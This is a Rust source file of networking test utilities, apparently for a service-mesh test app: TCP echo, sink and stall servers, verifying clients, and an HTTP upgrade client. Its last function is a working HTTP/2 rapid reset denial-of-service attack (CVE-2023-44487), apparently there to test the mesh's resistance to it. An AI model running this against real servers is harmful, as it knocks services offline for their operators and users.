//! Raw TCP servers (echo, sink, peer) and the source client.

use std::io::{Read, Write};
use std::net::{Shutdown, SocketAddr, TcpStream, ToSocketAddrs};
use std::time::Duration;

use anyhow::{Context, Result, bail};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

use crate::announce;

async fn bind(listen: SocketAddr) -> Result<TcpListener> {
    let l = TcpListener::bind(listen)
        .await
        .with_context(|| format!("binding {listen}"))?;
    announce(l.local_addr().context("local address")?);
    Ok(l)
}

/// Accepts forever, running `handle` on each connection in its own task.
async fn serve<F, Fut>(listen: SocketAddr, what: &'static str, handle: F) -> Result<()>
where
    F: Fn(tokio::net::TcpStream, SocketAddr) -> Fut,
    Fut: std::future::Future<Output = Result<()>> + Send + 'static,
{
    let l = bind(listen).await?;
    loop {
        let (sock, peer) = l.accept().await.context("accepting")?;
        let fut = handle(sock, peer);
        tokio::spawn(async move {
            if let Err(e) = fut.await {
                eprintln!("{what}: connection from {peer}: {e:#}");
            }
        });
    }
}

pub async fn echo(listen: SocketAddr) -> Result<()> {
    serve(listen, "echo", |mut sock, _| async move {
        let (mut r, mut w) = sock.split();
        tokio::io::copy(&mut r, &mut w).await.context("echoing")?;
        w.shutdown().await.context("shutting down")?;
        Ok(())
    })
    .await
}

/// Sends `bytes` pseudo-random bytes (seed `xfer::BLOB_SEED`) and closes at once, whatever
/// the client does.
pub async fn blob(listen: SocketAddr, bytes: usize) -> Result<()> {
    let mut data = vec![0u8; bytes];
    Prng::new(crate::xfer::BLOB_SEED).fill(&mut data);
    let data = std::sync::Arc::new(data);
    serve(listen, "blob", move |mut sock, _| {
        let data = data.clone();
        async move {
            sock.write_all(&data).await.context("sending")?;
            Ok(())
        }
    })
    .await
}

pub async fn sink(listen: SocketAddr, report: bool) -> Result<()> {
    serve(listen, "sink", move |mut sock, peer| async move {
        let mut hasher = crc32fast::Hasher::new();
        let mut total: u64 = 0;
        let mut buf = vec![0u8; 64 * 1024];
        loop {
            let n = sock.read(&mut buf).await.context("reading")?;
            if n == 0 {
                break;
            }
            hasher.update(&buf[..n]);
            total += n as u64;
        }
        let line = format!("{total} {:08x}\n", hasher.finalize());
        if report {
            println!("received {peer} {}", line.trim_end());
        }
        // The client may be gone already (it closed right after writing).
        if sock.write_all(line.as_bytes()).await.is_err() {
            return Ok(());
        }
        sock.shutdown().await.context("shutting down")?;
        Ok(())
    })
    .await
}

/// Accepts and never reads: the slowest reader there is. Connections stay open until the
/// server is stopped.
pub async fn stall(listen: SocketAddr) -> Result<()> {
    serve(listen, "stall", |sock, _| async move {
        let _held = sock;
        std::future::pending::<()>().await;
        Ok(())
    })
    .await
}

pub async fn peer(listen: SocketAddr) -> Result<()> {
    serve(listen, "peer", |mut sock, peer| async move {
        sock.write_all(format!("{peer}\n").as_bytes())
            .await
            .context("replying")?;
        sock.shutdown().await.context("shutting down")?;
        Ok(())
    })
    .await
}

#[derive(clap::Args)]
pub struct SourceArgs {
    /// HOST:PORT to connect to.
    #[arg(long)]
    connect: String,
    /// How many bytes to send.
    #[arg(long)]
    bytes: u64,
    /// Write size.
    #[arg(long, default_value_t = 65536)]
    chunk: usize,
    /// PRNG seed (same seed, same bytes).
    #[arg(long, default_value_t = 0x5eed_0f_da7a)]
    seed: u64,
    /// Read/write timeout in seconds (the connect timeout is 5 s).
    #[arg(long, default_value_t = 60)]
    timeout: u64,
}

/// xorshift64* — fast, deterministic, good enough to make corruption visible.
pub(crate) struct Prng(u64);

impl Prng {
    pub(crate) fn new(seed: u64) -> Self {
        Self(seed.max(1))
    }

    pub(crate) fn fill(&mut self, buf: &mut [u8]) {
        for chunk in buf.chunks_mut(8) {
            self.0 ^= self.0 >> 12;
            self.0 ^= self.0 << 25;
            self.0 ^= self.0 >> 27;
            let v = self.0.wrapping_mul(0x2545_f491_4f6c_dd1d).to_le_bytes();
            chunk.copy_from_slice(&v[..chunk.len()]);
        }
    }
}

pub fn source(args: &SourceArgs) -> Result<()> {
    if args.chunk == 0 {
        bail!("--chunk must be positive");
    }
    let mut sock = connect(&args.connect)?;
    let addr = &args.connect;
    let io_timeout = Some(Duration::from_secs(args.timeout.max(1)));
    sock.set_read_timeout(io_timeout)?;
    sock.set_write_timeout(io_timeout)?;
    let mut prng = Prng::new(args.seed);
    let mut hasher = crc32fast::Hasher::new();
    let mut buf = vec![0u8; args.chunk];
    let mut left = args.bytes;
    while left > 0 {
        let n = usize::try_from(left).unwrap_or(usize::MAX).min(buf.len());
        prng.fill(&mut buf[..n]);
        hasher.update(&buf[..n]);
        sock.write_all(&buf[..n])
            .with_context(|| format!("sending to {addr} ({} bytes sent)", args.bytes - left))?;
        left -= n as u64;
    }
    sock.shutdown(Shutdown::Write)
        .with_context(|| format!("half-closing the connection to {addr}"))?;
    let mut reply = String::new();
    sock.read_to_string(&mut reply)
        .with_context(|| format!("reading the reply from {addr}"))?;
    let sent = format!("{} {:08x}", args.bytes, hasher.finalize());
    println!("sent {sent}");
    println!("reply {}", reply.trim_end());
    if reply.trim_end() != sent {
        bail!(
            "reply {:?} does not match what was sent ({sent})",
            reply.trim_end()
        );
    }
    Ok(())
}

#[derive(clap::Args)]
pub struct ReadArgs {
    /// HOST:PORT to connect to.
    #[arg(long)]
    connect: String,
    /// Text to send before half-closing.
    #[arg(long)]
    send: Option<String>,
    /// Read timeout in seconds (the connect timeout is 5 s).
    #[arg(long, default_value_t = 10)]
    timeout: u64,
    /// Do not half-close: send nothing and wait for the server to speak first and close
    /// (a server-first protocol's client).
    #[arg(long, conflicts_with = "send")]
    keep_open: bool,
}

pub(crate) fn connect(target: &str) -> Result<TcpStream> {
    let addrs: Vec<SocketAddr> = target
        .to_socket_addrs()
        .with_context(|| format!("resolving {target}"))?
        .collect();
    let Some(addr) = addrs.first() else {
        bail!("{target} resolves to no address");
    };
    TcpStream::connect_timeout(addr, Duration::from_secs(5))
        .with_context(|| format!("connecting to {addr}"))
}

pub fn read(args: &ReadArgs) -> Result<()> {
    let mut sock = connect(&args.connect)?;
    sock.set_read_timeout(Some(Duration::from_secs(args.timeout.max(1))))?;
    if let Some(text) = &args.send {
        sock.write_all(text.as_bytes())
            .with_context(|| format!("sending to {}", args.connect))?;
    }
    if !args.keep_open {
        sock.shutdown(Shutdown::Write)
            .with_context(|| format!("half-closing the connection to {}", args.connect))?;
    }
    let mut buf = Vec::new();
    sock.read_to_end(&mut buf)
        .with_context(|| format!("reading from {}", args.connect))?;
    let mut out = std::io::stdout().lock();
    out.write_all(&buf)?;
    out.flush()?;
    Ok(())
}

#[derive(clap::Args)]
pub struct ChatArgs {
    /// HOST:PORT of an echo server.
    #[arg(long)]
    connect: String,
    /// Read timeout in seconds per echo.
    #[arg(long, default_value_t = 10)]
    timeout: u64,
}

pub fn chat(args: &ChatArgs) -> Result<()> {
    use std::io::BufRead;
    let mut sock = connect(&args.connect)?;
    sock.set_read_timeout(Some(Duration::from_secs(args.timeout.max(1))))?;
    let mut out = std::io::stdout().lock();
    // The peer as getpeername() reports it: through the mesh, the original destination.
    writeln!(
        out,
        "connected {} peer {}",
        sock.local_addr()?,
        sock.peer_addr()?
    )?;
    out.flush()?;
    for line in std::io::stdin().lock().lines() {
        let line = line.context("reading stdin")?;
        let msg = format!("{line}\n");
        sock.write_all(msg.as_bytes())
            .with_context(|| format!("sending to {}", args.connect))?;
        let mut back = vec![0u8; msg.len()];
        sock.read_exact(&mut back)
            .with_context(|| format!("reading the echo from {}", args.connect))?;
        write!(out, "echo {}", String::from_utf8_lossy(&back))?;
        out.flush()?;
    }
    Ok(())
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn prng_is_deterministic_and_not_constant() {
        let mut a = vec![0u8; 37];
        let mut b = vec![0u8; 37];
        Prng::new(7).fill(&mut a);
        Prng::new(7).fill(&mut b);
        assert_eq!(a, b);
        assert!(a.iter().any(|&x| x != a[0]));
    }
}

#[derive(clap::Args)]
pub struct UpgradeArgs {
    /// HOST:PORT of `mesh-testapp http` (directly or through the mesh).
    #[arg(long)]
    connect: String,
    /// Sent after the 101, then read back from the server's echo.
    #[arg(long)]
    message: String,
    /// Read timeout in seconds.
    #[arg(long, default_value_t = 10)]
    timeout: u64,
}

/// An HTTP/1.1 upgrade (`Upgrade: echo`, as WebSocket does it) and then raw bytes both ways:
/// prints the response head's status line and the echoed message.
pub fn upgrade(args: &UpgradeArgs) -> Result<()> {
    let mut sock = connect(&args.connect)?;
    sock.set_read_timeout(Some(Duration::from_secs(args.timeout.max(1))))?;
    write!(
        sock,
        "GET /echo HTTP/1.1\r\nHost: {}\r\nConnection: Upgrade\r\nUpgrade: echo\r\n\r\n",
        args.connect
    )?;
    // The response head, byte by byte up to the blank line: what follows is the tunnel.
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        sock.read_exact(&mut byte)
            .context("reading the response head")?;
        head.push(byte[0]);
        anyhow::ensure!(head.len() < 16 * 1024, "response head too long");
    }
    let head = String::from_utf8_lossy(&head);
    let status = head.lines().next().unwrap_or_default().to_string();
    anyhow::ensure!(status.contains(" 101 "), "no upgrade: {head}");
    sock.write_all(args.message.as_bytes())?;
    let mut echo = vec![0u8; args.message.len()];
    sock.read_exact(&mut echo).context("reading the echo")?;
    println!("{status}");
    println!("{}", String::from_utf8_lossy(&echo));
    Ok(())
}

#[derive(clap::Args)]
pub struct RapidResetArgs {
    /// HOST:PORT of an HTTP/2 (h2c) server, or a proxy of one.
    #[arg(long)]
    connect: String,
    /// Streams to open and reset at once, across as many connections as the server allows.
    #[arg(long, default_value_t = 10_000)]
    streams: u64,
    /// Give up after this many seconds.
    #[arg(long, default_value_t = 20)]
    seconds: u64,
}

/// The HTTP/2 rapid reset attack (CVE-2023-44487): open a stream, reset it right away,
/// repeat. Reconnects when the server sends GOAWAY or closes. Prints
/// `streams N connections C` (streams reset, connections used).
pub async fn rapid_reset(args: RapidResetArgs) -> Result<()> {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(args.seconds);
    let (mut streams, mut connections) = (0u64, 0u64);
    'connections: while streams < args.streams && tokio::time::Instant::now() < deadline {
        let tcp = tokio::net::TcpStream::connect(&args.connect)
            .await
            .with_context(|| format!("connecting to {}", args.connect))?;
        connections += 1;
        let Ok((mut client, conn)) = h2::client::handshake(tcp).await else {
            continue;
        };
        let driver = tokio::spawn(async move {
            let _ = conn.await;
        });
        while streams < args.streams && tokio::time::Instant::now() < deadline {
            let ready = match tokio::time::timeout(Duration::from_secs(2), client.ready()).await {
                Ok(Ok(c)) => c,
                _ => break,
            };
            client = ready;
            let req = hyper::Request::builder()
                .uri(format!("http://{}/", args.connect))
                .body(())
                .context("request")?;
            match client.send_request(req, false) {
                Ok((_response, mut send)) => {
                    send.send_reset(h2::Reason::CANCEL);
                    streams += 1;
                }
                Err(_) => {
                    driver.abort();
                    continue 'connections;
                }
            }
        }
        driver.abort();
    }
    println!("streams {streams} connections {connections}");
    Ok(())
}
